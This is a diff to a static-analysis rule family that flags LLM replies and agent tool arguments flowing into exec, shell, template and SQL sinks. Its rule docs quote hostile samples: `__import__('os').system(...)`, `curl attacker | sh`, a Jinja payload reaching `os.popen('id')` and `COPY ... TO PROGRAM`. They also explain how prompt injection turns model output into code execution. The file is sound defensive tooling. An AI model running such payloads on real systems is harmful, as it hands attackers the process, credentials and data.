@@ -29,7 +29,7 @@ const CODE: RuleMeta = {
   message: 'code returned by an LLM ({{source}}) reaches `{{sink}}`',
   fixAvailability: 'none',
   docs: {
-    whatItDoes: 'Follows the reply of an LLM call (OpenAI `chat.completions.create`/`responses.create`, Anthropic `messages.create`, LangChain `invoke`/`run`/`predict`, Ollama `chat`/`generate`, Hugging Face `pipeline(...)(prompt)`, `InferenceClient`, `tokenizer.decode`, LiteLLM, Gemini `generate_content`, the Vercel AI SDK `generateText`) through assignments, attribute and subscript reads, f-strings, `%`, `.format`, `+`, template literals, string methods, regex extraction, streaming loops, `await`, `.then` callbacks and small helpers in the same file, and reports when it reaches code execution: Python `exec`, `eval`, `compile`, `runpy`, `importlib.import_module`, `pandas.eval`/`DataFrame.query`, LangChain `PythonREPL().run`; JS `eval`, `new Function`, string timers, `vm.*`, `vm2`, dynamic `require`/`import()`. Model output written to a file (`open(p, "w").write`, `Path.write_text`, `fs.writeFile`) and then run by a command naming that file (`python generated.py`) counts too. Helpers imported from elsewhere whose names say they ask a model (`get_completion`, `ask_llm`, `generate_code`) are sources at medium confidence. The finding carries the path from the model call to the sink.',
+    whatItDoes: 'Follows the reply of an LLM call (OpenAI `chat.completions.create`/`responses.create`, Anthropic `messages.create`, LangChain `invoke`/`run`/`predict`, Ollama `chat`/`generate`, Hugging Face `pipeline(...)(prompt)`, `InferenceClient`, `tokenizer.decode`, LiteLLM, Gemini `generate_content`, the Vercel AI SDK `generateText`) through assignments, attribute and subscript reads, f-strings, `%`, `.format`, `+`, template literals, string methods, regex extraction, streaming loops, `await`, `.then` callbacks and small helpers in the same file, and reports when it reaches code execution: Python `exec`, `eval`, `compile`, `runpy`, `importlib.import_module`, `pandas.eval`/`DataFrame.query`, LangChain `PythonREPL().run`; JS `eval`, `new Function`, string timers, `vm.*`, `vm2`, dynamic `require`/`import()`. Model output written to a file (`open(p, "w").write`, `Path.write_text`, `fs.writeFile`) and then run by a command naming that file (`python generated.py`) counts too. Helpers imported from elsewhere whose names say they ask a model (`get_completion`, `ask_llm`, `generate_code`) are sources at medium confidence. **Tool arguments** are sources too: every parameter of a function registered as an agent tool is chosen by the model: LangChain `@tool`, `StructuredTool.from_function(func=f)`, `Tool(func=f)` and `BaseTool._run`/`_arun`; the OpenAI Agents SDK `@function_tool`; smolagents `@tool` and `Tool.forward`; CrewAI `@tool` and `BaseTool._run`; LlamaIndex `FunctionTool.from_defaults(fn=f)`; Pydantic AI `@agent.tool`/`tool_plain`; MCP `@mcp.tool()`, `add_tool` and `@server.call_tool()`; AutoGen 0.2/AG2 `register_function(f, ...)` and `@agent.register_for_execution()`; a function named in `tools=[...]` of `create_agent`, `create_react_agent`, `ToolNode`, Pydantic AI `Agent`, LlamaIndex and AutoGen agents, DSPy `ReAct` and google-genai `GenerateContentConfig` (automatic function calling); in TS, MCP `server.tool(...)`/`registerTool(...)`/`setRequestHandler(CallToolRequestSchema, ...)`, the Vercel AI SDK `tool({ execute })` and LangChain.js `tool(fn)`, `DynamicStructuredTool` and `StructuredTool._call`. Registration is resolved through imports; parameters the framework injects (`self`, `run_manager`, `config`, `RunContext`/`Context` parameters, the handler\'s second argument in TS) and parameters typed `int`/`float`/`bool` are not tainted. LLM-app sinks have their own messages: Jupyter `KernelClient.execute`, IPython `run_cell`, `code.InteractiveInterpreter.runsource`/`runcode` and `InteractiveConsole.push`, code written to the stdin of a `python`/`node`/`bash`/`pwsh` process (`proc.stdin.write`, `communicate(input=...)`, `subprocess.run(argv, input=...)`, pexpect `sendline`), `sympy.sympify`/`parse_expr`, `numexpr.evaluate` (a warning unless `sanitize=False`), `pandas.eval` and `DataFrame.eval`/`query` (receivers created by pandas or named as DataFrames), and module names given to `importlib.import_module`/`__import__`/`require`/`import()` (a warning). The finding carries the path from the model call to the sink.\n\n**Mitigations.** The flow ends at `ast.literal_eval`, numeric conversions, a parsed JSON object passed whole, and an allow-list check that guards the sink (`if x in ALLOWED:`, `if x not in ALLOWED: raise`, `ALLOWED.includes(x)`, equality with a literal). A human confirmation right before the sink (`if input("Run? [y/N]") == "y":`, or up to three statements after `if answer != "y": return`; also `click.confirm`, `typer.confirm`, `Confirm.ask`, `confirm()`) lowers the finding to a warning; a condition with `or` (an `auto_run` flag that skips the question) does not. Regex or keyword blacklists, homemade `safe_eval` helpers, `exec(code, {})` without `__builtins__`, separate processes and timeouts are not mitigations.',
     whyIsThisBad: 'Whatever the model returns is controlled by whoever controls any part of its input: the user, a retrieved web page, a document, an email or a tool result can carry a prompt injection that makes the model answer with `__import__("os").system(...)`. Executing the reply hands that person the process (CVE-2024-5565 in Vanna, CVE-2025-1497 in PlotAI). No peer tool tracks model output as a taint source.',
     example: 'reply = client.chat.completions.create(model="gpt-4o", messages=messages)\ncode = reply.choices[0].message.content\nexec(code)\n',
     useInstead: USE_INSTEAD_COMMON,
@@ -49,7 +49,7 @@ const COMMAND: RuleMeta = {
   message: 'a command built from LLM output ({{source}}) reaches `{{sink}}`',
   fixAvailability: 'none',
   docs: {
-    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into command execution: Python `os.system`, `os.popen`, `subprocess.*` (a string with `shell=True`, or the program of an argv list; other argv entries are a warning, and `shlex.quote` lowers the severity), `asyncio.create_subprocess_shell`/`_exec`, `os.exec*`, LangChain `ShellTool`/`BashProcess`; JS `child_process.exec`/`execSync`, `spawn`/`execFile` (program, `shell: true` arguments, `sh -c` code), `shelljs.exec`, `execa`.',
+    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into command execution: Python `os.system`, `os.popen`, `subprocess.*` (a string with `shell=True`, or the program of an argv list; other argv entries are a warning, and `shlex.quote` lowers the severity), `asyncio.create_subprocess_shell`/`_exec`, `os.exec*`, LangChain `ShellTool`/`BashProcess`; JS `child_process.exec`/`execSync`, `spawn`/`execFile` (program, `shell: true` arguments, `sh -c` code), `shelljs.exec`, `execa`. Tool arguments are sources (see AIS280). An argument after a code flag of an interpreter (`osascript -e`, `powershell -Command`, `python -c`, `node -e`, `bash -c`, `Rscript -e`) is an error, and so is a package name given to `pip`/`uv`/`npm`/`yarn`/`pnpm`/`poetry`/`conda` `install`/`add` (argv or command line), with its own message. Mitigations are those of AIS280, plus `shlex.quote` (lowers the severity) and sandbox launchers (`docker run ...`), where only the launcher\'s own arguments count.',
     whyIsThisBad: 'An agent that runs the commands its model proposes gives a shell to anyone who can steer the model: a prompt injection in a web page, an issue, a file or a tool result turns into `curl attacker | sh` with the rights of the agent, its credentials and its network.',
     example: 'const res = await openai.chat.completions.create({ model, messages });\nexecSync(res.choices[0].message.content);\n',
     useInstead: '# Map model intents to commands you wrote, never run its text:\nCOMMANDS = {"list": ["ls", "-l"], "status": ["git", "status"]}\nargv = COMMANDS.get(intent)\nif argv is None:\n    raise ValueError(intent)\nsubprocess.run(argv, check=True)            # no shell\n# When free-form commands are the product, run them in a disposable sandbox after human approval.\n',
@@ -77,7 +77,47 @@ const DESERIALIZATION: RuleMeta = {
   },
 };
 
-const RULE_OF: Record<SinkKind, RuleMeta> = { code: CODE, command: COMMAND, deserialization: DESERIALIZATION };
+const TEMPLATE: RuleMeta = {
+  id: 'AIS283',
+  name: 'llm-output-template-injection',
+  title: 'LLM output compiled as a template',
+  category: 'code-execution',
+  fileKinds: FILE_KINDS,
+  severity: 'error',
+  confidence: 'high',
+  cwe: ['CWE-1336', 'CWE-94', 'CWE-1426'],
+  message: 'a template written by an LLM ({{source}}) is compiled by `{{sink}}`',
+  fixAvailability: 'none',
+  docs: {
+    whatItDoes: 'Follows LLM replies and tool arguments (the same sources and propagation as AIS280) into template engines that compile their input: `jinja2.Template(t)`, `jinja2.Environment(...).from_string(t)` and Flask `render_template_string(t)` in Python; `ejs.render`/`ejs.compile`, `pug.compile`/`pug.render`, `lodash.template`, `nunjucks.renderString` and `doT.template` in JS/TS. A `jinja2.sandbox.SandboxedEnvironment`/`ImmutableSandboxedEnvironment` ends the flow: its `from_string` is not a sink.',
+    whyIsThisBad: 'A template is a program: Jinja expressions reach Python objects (`{{ cycler.__init__.__globals__.os.popen("id").read() }}`), and EJS, Pug and lodash templates compile to JavaScript. A model steered by a prompt injection, or a model file that ships its own chat template (CVE-2024-34359 in llama-cpp-python), turns template rendering into code execution.',
+    example: 'layout = llm.invoke("Write a Jinja template for the report").content\nhtml = jinja2.Environment().from_string(layout).render(data=data)\n',
+    useInstead: 'from jinja2.sandbox import ImmutableSandboxedEnvironment\n\nenv = ImmutableSandboxedEnvironment()    # blocks attribute access to internals\nhtml = env.from_string(layout).render(data=data)\n# Better still: let the model fill values into a template you wrote.\n',
+    references: ['https://cwe.mitre.org/data/definitions/1336.html', 'https://jinja.palletsprojects.com/en/stable/sandbox/', 'https://nvd.nist.gov/vuln/detail/CVE-2024-34359', ...REFERENCES_TAIL.slice(0, 1)],
+  },
+};
+
+const SQL: RuleMeta = {
+  id: 'AIS284',
+  name: 'llm-output-sql-execution',
+  title: 'SQL written by an LLM executed',
+  category: 'code-execution',
+  fileKinds: FILE_KINDS,
+  severity: 'warning',
+  confidence: 'medium',
+  cwe: ['CWE-89', 'CWE-1426'],
+  message: 'SQL written by an LLM ({{source}}) is executed by `{{sink}}`',
+  fixAvailability: 'none',
+  docs: {
+    whatItDoes: 'Follows LLM replies and tool arguments (the same sources and propagation as AIS280) into SQL execution: DB-API `cursor.execute`/`executemany`/`executescript` and connection `execute` (receivers created by a driver\'s `connect()` or `.cursor()`, or named `cursor`/`cur`/`conn`/`db` in a file that imports a driver), SQLAlchemy `text(sql)` and `exec_driver_sql`, `pandas.read_sql`/`read_sql_query`, DuckDB `duckdb.sql`/`query`/`execute`, and Prisma `$queryRawUnsafe`/`$executeRawUnsafe`. It is a warning: text-to-SQL is a product feature, and the risk depends on what the connection may do. A cursor of a connection opened read-only (`sqlite3.connect("file:db?mode=ro", uri=True)`, DuckDB `read_only=True`, PostgreSQL `default_transaction_read_only`) is not reported; other mitigations are those of AIS280 (allow-lists; a confirmation prompt lowers nothing further, the finding is already a warning).',
+    whyIsThisBad: 'When the model writes the whole query, parameters cannot protect it: a prompt injection in the question or in retrieved data can make the model read other tables, `DROP` them, or call functions of the database that reach files and programs (`COPY ... TO PROGRAM`, `load_extension`). Text-to-SQL CVEs in LLM frameworks (CVE-2024-5565 in Vanna, LangChain\'s SQL chains) follow this shape.',
+    example: 'sql = llm.invoke(f"Write SQL for: {question}").content\ncursor.execute(sql)\n',
+    useInstead: '# Run model-written SQL only on a read-only connection to a restricted role:\nconn = psycopg.connect(READONLY_DSN, options="-c default_transaction_read_only=on")\n# or let the model pick a query you wrote and fill its parameters:\nQUERIES = {"sales_by_month": "SELECT month, sum(total) FROM sales WHERE year = %s GROUP BY month"}\ncursor.execute(QUERIES[choice["query"]], (choice["year"],))\n',
+    references: ['https://cwe.mitre.org/data/definitions/89.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
+  },
+};
+
+const RULE_OF: Record<SinkKind, RuleMeta> = { code: CODE, command: COMMAND, deserialization: DESERIALIZATION, template: TEMPLATE, sql: SQL };
 
 /**
  * Prefilter: a file must mention an LLM SDK, an LLM HTTP endpoint, a distinctive SDK call shape or a
@@ -89,6 +129,10 @@ const SOURCE_KEYWORDS = [
   'penai', 'penAI', 'nthropic', 'langchain', 'langgraph', 'llama', 'transformers', 'genai', 'generative', 'litellm', 'cohere', 'mistral', 'groq', 'huggingface', 'bedrock', 'vllm', 'gpt4all', 'deepseek', 'openrouter',
   "'ai'", '"ai"', '/api/generate', '/api/chat', '/v1/', '11434',
   'ompletion', 'messages.create', 'messages.stream', 'responses.create', 'responses.parse', 'generate_content', 'generateContent', 'text_generation', 'textGeneration', 'invoke_model',
+  // Functions registered as agent tools (`@tool`, `@mcp.tool()`, `registerTool`, `tool({ execute })`).
+  // Specific shapes only: `Tool` and `.tool` alone match most files of agent frameworks.
+  '@tool', 'tool(', '.tool\n', '.tool\r', 'Tool(', 'Tool)', 'extends Tool', 'BaseTool', 'StructuredTool', 'DynamicTool', 'registerTool', 'CallToolRequestSchema', 'call_tool', 'add_tool',
+  'tools=', 'tool_plain', 'function_tool', 'kernel_function', 'register_for_execution', 'register_function',
   'llm', 'LLM', 'Llm', 'gpt', 'GPT', 'laude', 'emini', 'enerate_code', 'enerateCode', 'rite_code', 'enerate_command', 'enerateCommand', 'enerate_script', 'enerateScript',
 ];
 /** Second prefilter group: the file must also mention a sink (checked together with the keywords, before parsing). */
@@ -98,15 +142,20 @@ const SINK_KEYWORDS = [
   'exec', 'eval(', 'compile(', 'system(', 'import system', 'popen', 'subprocess', 'child_process', 'spawn', 'Function(', 'runIn', 'vm.Script', 'new Script', 'vm2',
   'pickle', 'dill', 'marshal', 'unsafe_load', 'full_load', 'joblib', 'load(', 'import load', 'unserialize', 'deserialize', 'shelljs',
   'import_module', '__import__', 'runpy', 'setTimeout', 'setInterval', 'setImmediate', 'PythonREPL', 'ShellTool', 'BashProcess', '.query(', 'run_cell', 'pexpect',
+  // LLM-app sinks (guide §2): kernels and consoles, interpreter stdin, evaluators, templates, SQL, module loading.
+  // Module names rather than method names where the method is common (`push`, `Template`, `template`).
+  '.execute(', '.executemany(', '.executescript(', 'execute_interactive', 'exec_driver_sql', 'runsource', 'runcode', 'InteractiveConsole', 'stdin', 'communicate', 'sendline',
+  'sympy', 'numexpr', 'jinja2', 'render_template_string', '.template(', 'lodash/template', "'ejs'", '"ejs"', "'pug'", '"pug"', 'nunjucks', 'doT',
+  'read_sql', 'sqlalchemy', 'duckdb', 'RawUnsafe',
 ];
 
 export default defineRuleFamily(
-  [CODE, COMMAND, DESERIALIZATION],
+  [CODE, COMMAND, DESERIALIZATION, TEMPLATE, SQL],
   [
     {
       kind: 'ast',
       name: 'llm-output-execution',
-      ruleIds: [CODE.id, COMMAND.id, DESERIALIZATION.id],
+      ruleIds: [CODE.id, COMMAND.id, DESERIALIZATION.id, TEMPLATE.id, SQL.id],
       fileKinds: FILE_KINDS,
       keywords: SOURCE_KEYWORDS,
       alsoRequires: SINK_KEYWORDS,
@@ -119,12 +168,16 @@ export default defineRuleFamily(
 
 function report(ctx: AstContext, f: TaintFinding): void {
   const rule = RULE_OF[f.match.kind];
-  const source = `\`${f.trace.sourceLabel}\`, line ${f.trace.sourceLine}`;
+  const source = f.trace.description ?? `\`${f.trace.sourceLabel}\`, line ${f.trace.sourceLine}`;
   const quoted = f.match.kind === 'command' && f.trace.quoted;
-  const severity = quoted ? 'warning' : f.arg.severity;
+  const severity = quoted || f.confirmed ? 'warning' : f.arg.severity;
   const role = f.arg.why ? ` as ${f.arg.why}` : '';
   const base = rule.message.replace('{{source}}', source).replace('{{sink}}', f.match.label);
-  const message = `${base}${role}${quoted ? ' (quoted with shlex.quote, which limits but does not remove the risk)' : ''}`;
+  const softened = [
+    quoted ? 'quoted with shlex.quote, which limits but does not remove the risk' : undefined,
+    f.confirmed ? 'after a confirmation prompt, which lowers but does not remove the risk' : undefined,
+  ].filter(Boolean);
+  const message = `${base}${role}${softened.length > 0 ? ` (${softened.join('; ')})` : ''}${f.match.note ? `: ${f.match.note}` : ''}`;
   const flow: FlowStep[] = [
     ...f.trace.steps.map((s) => ({ range: ctx.rangeOfNode(s.node), message: s.message })),
     { range: ctx.rangeOfNode(f.sink), message: `reaches \`${f.match.label}\`${role}` },
@@ -137,6 +190,8 @@ function report(ctx: AstContext, f: TaintFinding): void {
     confidence: severity === 'warning' || f.trace.heuristic ? 'medium' : 'high',
     flow,
     properties: { source: f.trace.sourceLabel, sourceLine: f.trace.sourceLine, sink: f.match.label },
-    combine: sinkCombine(`LLM output (${source}) reaches it`),
+    // When the sink's own rule reports the same call, one finding leads (the more severe); this clause keeps
+    // the model-output flow, and a softening such as a confirmation prompt, in the combined message.
+    combine: sinkCombine(`LLM output (${source}) reaches it${softened.length > 0 ? ` (${softened.join('; ')})` : ''}`),
   });
 }
